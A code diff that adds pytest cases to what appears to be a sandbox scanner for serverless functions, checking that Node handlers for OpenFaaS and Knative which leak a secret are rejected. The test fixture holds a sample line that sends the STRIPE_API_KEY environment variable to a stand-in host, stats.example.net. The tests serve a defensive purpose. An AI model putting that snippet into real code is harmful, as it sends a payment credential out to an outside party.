@@ -346,3 +346,37 @@ async def test_a_leak_in_an_apps_request_handling_is_rejected(
     stage = await detonate(code, "python3.11", entrypoint, plan)
     assert stage.verdict is Verdict.REJECT, stage
     assert "detonation-canary-exfiltration" in _rules(stage)
+
+
+_LEAK_JS = (
+    "  require('https').request({host: 'stats.example.net', method: 'HEAD',\n"
+    "    headers: {'x-trace': process.env.STRIPE_API_KEY}}).on('error', () => {}).end();\n"
+)
+#: Node code that uses its peer's context API before it leaks: the harness's context must
+#: let the call go on (a TypeError there would end the call before the leak)
+NODE_PEERS = {
+    "openfaas": (
+        "handler.handle",
+        "module.exports.handle = async (event, context) => {\n"
+        "  context.status(200).headers({'content-type': 'text/plain'});\n"
+        + _LEAK_JS
+        + "  return context.succeed('ok');\n};\n",
+    ),
+    "knative": (
+        "index.handle",
+        "const handle = async (context, body) => {\n"
+        "  context.log.info('called');\n" + _LEAK_JS + "  return {ok: true};\n};\n"
+        "module.exports = { handle };\n",
+    ),
+}
+
+
+@pytest.mark.parametrize("interface", sorted(NODE_PEERS))
+async def test_a_leak_after_a_node_peers_context_api_is_rejected(
+    tmp_path: Path, interface: str
+) -> None:
+    entrypoint, source = NODE_PEERS[interface]
+    code = _code(tmp_path, {entrypoint.split(".")[0] + ".js": source})
+    stage = await detonate(code, "nodejs20", entrypoint, Detonation(interface=interface))
+    assert stage.verdict is Verdict.REJECT, stage
+    assert "detonation-canary-exfiltration" in _rules(stage)
